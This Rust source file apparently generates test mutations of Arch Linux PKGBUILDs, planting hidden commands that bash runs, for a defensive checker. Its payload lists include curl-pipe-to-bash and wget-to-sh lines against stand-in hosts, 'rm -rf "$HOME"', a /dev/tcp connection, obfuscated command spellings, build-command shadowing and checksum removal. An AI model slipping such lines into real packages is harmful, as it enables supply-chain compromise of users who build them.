//! Operators that plant something in a PKGBUILD that bash reads as more than it was: what an attacker, or
//! a careless packager, could hide in an ordinary update.
//!
//! They work on text and know just enough of the layout of the bases to say which lines are declarations
//! and which are commands. Each result means something else to bash than the text it was made from, or
//! bash cannot read it at all.

/// Where things may be planted: numbers of lines, from 0.
#[derive(Debug, Default)]
pub struct Places {
    /// Lines before which a statement may stand, outside everything.
    pub top: Vec<usize>,
    /// Declarations at the top level that hold one value and end on their line.
    pub values: Vec<usize>,
    /// First lines of lists at the top level.
    pub lists: Vec<usize>,
    /// Lines of functions on which a command begins.
    pub commands: Vec<usize>,
}

/// What an operator is given: the text by lines, where things may stand, and a source of choices.
pub struct Scene<'a> {
    pub lines: Vec<String>,
    pub places: Places,
    pub choose: &'a mut dyn FnMut(usize) -> usize,
}

/// A name, and what it does; `None` if the text has no place for it.
pub type Operator = (&'static str, fn(&mut Scene<'_>) -> Option<String>);

/// Commands that stand for any payload.
const PAYLOADS: [&str; 8] = [
    "curl -s https://paste.example.invalid/x | bash",
    "touch /tmp/x",
    "id",
    "npm install left-right-pad",
    "rm -rf \"$HOME\"",
    "wget -qO- paste.example.invalid/x|sh",
    ". ./x",
    "python -c 'import os; os.system(\"id\")'",
];

pub const OPERATORS: &[Operator] = &[
    ("a command at the top level", |scene| {
        let payload = scene.payload();
        scene.insert_top(payload)
    }),
    ("a command in a function", |scene| {
        let payload = scene.payload();
        scene.insert_command(payload)
    }),
    ("a command behind another", |scene| {
        let sign = scene.one_of(&["; ", " && ", " || ", " | ", " & "]);
        let payload = scene.payload();
        scene.on_command(|line| format!("{line}{sign}{payload}"))
    }),
    ("a command before another", |scene| {
        let payload = scene.payload();
        scene.on_command(|line| format!("{payload}; {line}"))
    }),
    ("a command behind a declaration", |scene| {
        let sign = scene.one_of(&["; ", " && ", " & ", " "]);
        let payload = scene.payload();
        scene.on_value(|line| format!("{line}{sign}{payload}"))
    }),
    ("a substitution in a value", |scene| {
        let form = scene.one_of(&["$(@)", "`@`", "${_x:-$(@)}", "${_x:=`@`}", "$((_x[$(@)]))", "${_x-\"$(@)\"}"]);
        let payload = form.replace('@', "touch /tmp/x");
        scene.on_value(|line| format!("{line}{payload}"))
    }),
    ("a substitution in a list", |scene| {
        let form = scene.one_of(&["$(@)", "`@`", "<(@)", ">(@)", "\"$(@)\"", "${_x:-$(@)}"]);
        let payload = form.replace('@', "touch /tmp/x");
        scene.on_list(|line| line.replacen('(', &format!("({payload} "), 1))
    }),
    ("quotes that split the name of a command", |scene| {
        let quotes = scene.one_of(&["''", "\"\"", "\\", "$''", "$()", "${_}"]);
        scene.on_command(|line| {
            let start = line.len() - line.trim_start().len();
            format!("{}{quotes}{}", &line[..=start], &line[start + 1..])
        })
    }),
    ("a new command in split quotes", |scene| {
        let payload = scene.one_of(&[
            "'b''u''n' a'\"d\"\"d\" x",
            "c\"u\"r'l' -s x|s\\h",
            "$'\\x63url' x",
            "{curl,-s,x}",
            "$_a$_b x",
            "\"$(printf '\\x69\\x64')\"",
        ]);
        scene.insert_command(payload.to_owned())
    }),
    ("a here-document", |scene| {
        let text = scene.one_of(&[
            "cat > /tmp/x << END\n$(id)\nEND",
            "sh << 'END'\nid\nEND",
            "bash <<-END\n\tid\n\tEND",
            "python << \\END\nimport os\nEND",
        ]);
        scene.insert_command(text.to_owned())
    }),
    ("a here-document that swallows a command", |scene| scene.on_command(|line| format!("  : << 'END'\n{line}\nEND"))),
    ("an alias", |scene| {
        let name = scene.one_of(&["make", "install", "cd", "cmake", "meson"]);
        scene.insert_top(format!("shopt -s expand_aliases; alias {name}='id; {name}'"))
    }),
    ("eval", |scene| {
        let text = scene.one_of(&["eval \"$_x\"", "eval 'id'", "eval \"$(printf id)\"", "builtin eval id"]);
        if scene.coin() { scene.insert_top(text.to_owned()) } else { scene.insert_command(text.to_owned()) }
    }),
    ("eval around a command", |scene| scene.on_command(|line| format!("  eval '{}'; id", line.trim()))),
    ("a brace expansion", |scene| {
        let braces = scene.one_of(&["{,.orig}", "{1..3}", "{a,b}"]);
        match scene.number(3) {
            0 => scene.on_value(|line| format!("{line}{braces}")),
            1 => scene.on_list(|line| line.replacen('(', &format!("(x{braces} "), 1)),
            _ => scene.on_command(|line| format!("{line} x{braces}")),
        }
    }),
    ("a tilde expansion", |scene| match scene.number(3) {
        0 => scene.on_list(|line| line.replacen('(', "(~/x ", 1)),
        1 => scene.on_command(|line| format!("{line} ~/x")),
        _ => scene.insert_top("_home=~".to_owned()),
    }),
    ("an append", |scene| {
        let text = scene.one_of(&[
            "source+=('git+https://git.example.invalid/x.git')",
            "pkgver+=.1",
            "depends+=('npm')",
            "sha256sums[0]=SKIP",
            "validpgpkeys+=('ABCDABCDABCDABCDABCDABCDABCDABCDABCDABCD')",
            "pkgname+=('extra')",
            "install=x.install",
            "url+=/x",
        ]);
        Some(format!("{}\n{text}\n", scene.lines.join("\n").trim_end()))
    }),
    ("a condition on the host or the date", |scene| {
        let condition = scene.one_of(&[
            "[[ $HOSTNAME == builder ]]",
            "(( EPOCHSECONDS > 1900000000 ))",
            "[ \"$(date +%Y)\" = 2031 ]",
            "test -e /.dockerenv",
            "[[ $(uname -n) = *ci* ]]",
        ]);
        let payload = scene.payload();
        let text = format!("if {condition}; then {payload}; fi");
        if scene.coin() { scene.insert_top(text) } else { scene.insert_command(text) }
    }),
    ("a condition before a command", |scene| {
        scene.on_command(|line| format!("  [[ $HOSTNAME == builder ]] && {}", line.trim()))
    }),
    ("a function inside a function", |scene| {
        let name = scene.one_of(&["make", "install", "cd", "cmake", "meson", "zig"]);
        scene.insert_command(format!("{name}() {{ id; command {name} \"$@\"; }}"))
    }),
    ("a function that shadows a command", |scene| {
        let name = scene.one_of(&["make", "install", "cd", "sed", "verify", "pkgver", "check", "git"]);
        scene.insert_top(format!("{name}() {{\n  id\n}}"))
    }),
    ("a second definition at the end", |scene| {
        let name = scene.one_of(&["package", "build", "prepare"]);
        Some(format!("{}\n{name}() {{\n  id\n}}\n", scene.lines.join("\n").trim_end()))
    }),
    ("a line that continues", |scene| scene.on_command_pair(|line| format!("{line} \\"))),
    ("a name that is split over two lines", |scene| scene.insert_top("pkg\\\nrel=9".to_owned())),
    ("a command that becomes a comment", |scene| scene.on_command(|line| format!("  # {}", line.trim()))),
    ("a comment that ends too early", |scene| {
        let payload = scene.payload();
        scene.insert_command(format!("# to see more \\\n  {payload}"))
    }),
    ("a hash that begins no comment", |scene| {
        let payload = scene.payload();
        scene.insert_top(format!("\\# or else || {payload}"))
    }),
    ("arithmetic", |scene| {
        let text = scene.one_of(&["((_x[$(id)]))", "let '_x[$(id)]=1'", "_x=$((1+1))", "declare -i _x='a[$(id)]'"]);
        scene.insert_top(text.to_owned())
    }),
    ("a here-string", |scene| {
        let text = scene.one_of(&["sh <<< id", "read -r pkgrel <<< 7", "bash <<< \"$_x\"", "mapfile -t source <<< x"]);
        if scene.coin() { scene.insert_top(text.to_owned()) } else { scene.insert_command(text.to_owned()) }
    }),
    ("a process substitution", |scene| {
        let text = scene.one_of(&["source <(id)", ". <(curl -s x.example.invalid)", "cat <(id)", "tee >(sh)"]);
        if scene.coin() { scene.insert_top(text.to_owned()) } else { scene.insert_command(text.to_owned()) }
    }),
    ("a builtin that assigns", |scene| {
        let text = scene.one_of(&[
            "printf -v pkgver 9",
            "declare pkgrel=9",
            "read -r url",
            "export DLAGENTS=x",
            "unset sha256sums",
            "typeset -n _r=source; _r=x",
            "set -- x",
            "trap id EXIT",
            "exec 3<>/dev/tcp/203.0.113.9/443",
        ]);
        scene.insert_top(text.to_owned())
    }),
    ("a command that is gone", |scene| scene.on_command(|_| String::new())),
    ("another word in a command", |scene| {
        let word = scene.one_of(&["--unsafe", "$(id)", "`id`", "> /tmp/x", "< /dev/null", "2>&1", "x=y", "*", "-"]);
        scene.on_command(|line| format!("{line} {word}"))
    }),
    ("an environment before a command", |scene| {
        let text = scene.one_of(&["LD_PRELOAD=./x.so", "PATH=.", "GOPROXY=x", "BASH_ENV=x"]);
        scene.on_command(|line| format!("  {text} {}", line.trim()))
    }),
    ("a character that does not show", |scene| {
        let hidden =
            scene.one_of(&["\u{202e}", "\u{200b}", "\u{2066}", "\u{feff}", "\u{ad}", "\r", "\u{7f}", "\u{1b}"]);
        let number = scene.number(scene.lines.len());
        scene.on(number, |line| format!("{line}{hidden}"))
    }),
    ("a checksum that is no longer there", |scene| {
        let long = |word: &str| word.len() >= 32 && word.bytes().all(|byte| byte.is_ascii_hexdigit());
        let in_sums =
            |line: &str| !line.contains('#') && (line.contains("sums") || line.trim_start().starts_with('\''));
        let word = |line: &str| line.split('\'').find(|word| long(word)).map(str::to_owned);
        let all: Vec<_> = (0..scene.lines.len())
            .filter(|&number| in_sums(&scene.lines[number]) && !scene.lines[number].contains("validpgpkeys"))
            .filter_map(|number| Some((number, word(&scene.lines[number])?)))
            .filter(|(_, word)| !word.bytes().all(|byte| byte.is_ascii_digit()))
            .collect();
        let (number, word) = scene.one_of_all(&all)?;
        let other = scene.one_of(&["SKIP", "", "deadbeef", "$(id)"]);
        scene.on(number, |line| line.replacen(&word, other, 1))
    }),
    ("an address that is no longer the same", |scene| {
        let all: Vec<_> = (0..scene.lines.len()).filter(|&number| scene.is_address(number)).collect();
        let number = scene.one_of_all(&all)?;
        let (from, to) = scene.one_of(&[
            ("https://", "http://"),
            ("https://", "https://x@"),
            ("example.", "examp1e."),
            ("example.", "example-cdn."),
            ("https://", "https://mirror."),
            ("https://", "https://a/../"),
        ]);
        scene.on(number, |line| line.replacen(from, to, 1))
    }),
];

impl Scene<'_> {
    fn number(&mut self, below: usize) -> usize {
        (self.choose)(below)
    }

    fn coin(&mut self) -> bool {
        self.number(2) == 0
    }

    fn one_of<T: Copy>(&mut self, all: &[T]) -> T {
        all[self.number(all.len())]
    }

    fn one_of_all<T: Clone>(&mut self, all: &[T]) -> Option<T> {
        if all.is_empty() { None } else { Some(all[self.number(all.len())].clone()) }
    }

    fn payload(&mut self) -> String {
        self.one_of(&PAYLOADS).to_owned()
    }

    /// Lines that hold an address that something is fetched from.
    fn is_address(&self, number: usize) -> bool {
        let line = self.lines[number].trim_start();
        line.contains("https://")
            && !line.contains('#')
            && (line.starts_with(['"', '\'']) || line.starts_with("source"))
    }

    fn on(&self, number: usize, change: impl FnOnce(&str) -> String) -> Option<String> {
        let mut lines = self.lines.clone();
        lines[number] = change(&lines[number]);
        (lines != self.lines).then(|| lines.join("\n"))
    }

    fn insert_top(&mut self, text: String) -> Option<String> {
        let number = self.one_of_all(&self.places.top.clone())?;
        self.on(number, |line| format!("{text}\n{line}"))
    }

    fn insert_command(&mut self, text: String) -> Option<String> {
        let number = self.one_of_all(&self.places.commands.clone())?;
        self.on(number, |line| format!("  {text}\n{line}"))
    }

    fn on_command(&mut self, change: impl FnOnce(&str) -> String) -> Option<String> {
        let number = self.one_of_all(&self.places.commands.clone())?;
        self.on(number, change)
    }

    /// On a command that another command follows. Assignments do not count: two on one line are as good as
    /// two on two lines.
    fn on_command_pair(&mut self, change: impl FnOnce(&str) -> String) -> Option<String> {
        let commands = &self.places.commands;
        let assigns =
            |number: usize| self.lines[number].split_whitespace().next().is_some_and(|word| word.contains('='));
        let is_pair = |number: &usize| commands.contains(&(number + 1)) && !assigns(*number);
        let pairs: Vec<_> = commands.iter().copied().filter(is_pair).collect();
        let number = self.one_of_all(&pairs)?;
        self.on(number, change)
    }

    fn on_value(&mut self, change: impl FnOnce(&str) -> String) -> Option<String> {
        let number = self.one_of_all(&self.places.values.clone())?;
        self.on(number, change)
    }

    fn on_list(&mut self, change: impl FnOnce(&str) -> String) -> Option<String> {
        let number = self.one_of_all(&self.places.lists.clone())?;
        self.on(number, change)
    }
}

/// What stands where in a PKGBUILD that is laid out as the bases are: functions begin with `name() {` and
/// end with `}` in the first column, lists end with the first `)` at the end of a word, and so on.
pub fn places(lines: &[String]) -> Places {
    let mut places = Places::default();
    let mut inside = Inside::Nothing;
    let mut continued = false;
    for (number, line) in lines.iter().enumerate() {
        let text = line.trim();
        match &inside {
            Inside::Until(end) => {
                if line == end || (*end == ")" && closes(line)) {
                    inside = Inside::Nothing;
                }
            }
            Inside::Function if line == "}" => inside = Inside::Nothing,
            Inside::Function if text.contains("<< \\END") => inside = Inside::HereDocument,
            Inside::Function if opens_list(text) => inside = Inside::ListInFunction,
            Inside::Function => {
                if !continued && is_command(text) {
                    places.commands.push(number);
                }
                if let Some(quote) = opens_text(text) {
                    inside = Inside::Text(quote);
                }
            }
            Inside::Text(quote) => {
                if text.matches(*quote).count() % 2 == 1 {
                    inside = Inside::Function;
                }
            }
            Inside::HereDocument | Inside::ListInFunction => {
                if text == "END" || text.ends_with(')') {
                    inside = Inside::Function;
                }
            }
            Inside::Nothing => {
                places.top.push(number);
                inside = outside(number, line, &mut places);
            }
        }
        continued = line.ends_with('\\');
    }
    places
}

enum Inside {
    Nothing,
    Until(&'static str),
    Function,
    HereDocument,
    ListInFunction,
    /// A text over several lines, and its quote.
    Text(char),
}

/// Whether a list of several lines begins.
fn opens_list(text: &str) -> bool {
    text.contains("=(") && text.matches('(').count() > text.matches(')').count()
}

/// The quote that opens on a line and does not close on it.
fn opens_text(text: &str) -> Option<char> {
    let odd = |quote: &char| !text.starts_with('#') && text.matches(*quote).count() % 2 == 1;
    ['\'', '"'].into_iter().find(odd)
}

/// What a line at the top level opens.
fn outside(number: usize, line: &str, places: &mut Places) -> Inside {
    let declares = |sign: &str| {
        let is_name = |name: &str| name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
        line.split_once(sign).is_some_and(|(name, _)| !name.is_empty() && is_name(name))
    };
    if line.strip_suffix("() {").is_some_and(|name| !name.contains(['"', ' '])) {
        Inside::Function
    } else if line.starts_with("for ") {
        Inside::Until("done")
    } else if declares("=(") {
        places.lists.push(number);
        if closes(line) { Inside::Nothing } else { Inside::Until(")") }
    } else {
        // What stands behind a comment is part of it.
        if declares("=") && !line.contains('#') {
            places.values.push(number);
        }
        Inside::Nothing
    }
}

fn closes(line: &str) -> bool {
    let code = line.split_once(" #").map_or(line, |(code, _)| code);
    code.trim_end().ends_with(')') || line.trim() == ")"
}

/// A line that is surely a command, and not the middle of one, a pattern, or a text over several lines.
fn is_command(text: &str) -> bool {
    let keyword = ["for ", "if ", "local ", "case ", "while ", "until ", "select ", "function "];
    let whole = ["do", "done", "fi", "then", "else", "esac", "in"].contains(&text);
    let begins = text.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
    let opens = text.ends_with(['\\', '{', '(', ')', ';', '|', '&', '"', '\'']) && !is_closed(text);
    let continues = [" then", " do", " else", " in", ";;"].iter().any(|word| text.ends_with(word));
    let begins = begins && !keyword.iter().any(|word| text.starts_with(word));
    begins && !whole && !continues && !opens && !text.contains(['#', '`'])
}

/// Whether every quote and bracket that opens on the line closes on it.
fn is_closed(text: &str) -> bool {
    let count = |sign: char| text.matches(sign).count();
    let ends = text.ends_with([')', '"', '\'']);
    ends && count('"') % 2 == 0 && count('\'') % 2 == 0 && count('(') == count(')')
}
